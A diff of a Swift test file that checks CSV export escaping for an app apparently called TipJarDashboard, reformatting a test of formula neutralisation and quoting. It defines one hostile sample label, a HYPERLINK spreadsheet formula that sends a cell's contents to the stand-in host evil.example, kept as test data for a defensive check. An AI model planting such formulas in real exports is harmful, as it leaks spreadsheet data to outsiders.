@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+
 @testable import TipJarDashboard
 
 /// `?format=csv|json` on the ledger and the installs list: RFC 4180 CSV with CRLF and quoting,
@@ -8,9 +9,11 @@ import Testing
 struct ExportTests {
     static let hostileLabel = #"=HYPERLINK("http://evil.example/?"&A1,"Click me")"#
 
-    @Test(arguments: [("plain", "plain"), ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
-                      ("\tx", "'\tx"), ("\rx", "\"'\rx\""), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""),
-                      ("two\nlines", "\"two\nlines\""), ("=a,\"b\"", "\"'=a,\"\"b\"\"\""), ("", ""), ("1-2", "1-2")])
+    @Test(arguments: [
+        ("plain", "plain"), ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"), ("\rx", "\"'\rx\""), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""),
+        ("two\nlines", "\"two\nlines\""), ("=a,\"b\"", "\"'=a,\"\"b\"\"\""), ("", ""), ("1-2", "1-2"),
+    ])
     func aFieldIsNeutralisedAndQuotedAsNeeded(_ value: String, _ expected: String) {
         #expect(CSVTable.field(value) == expected)
     }
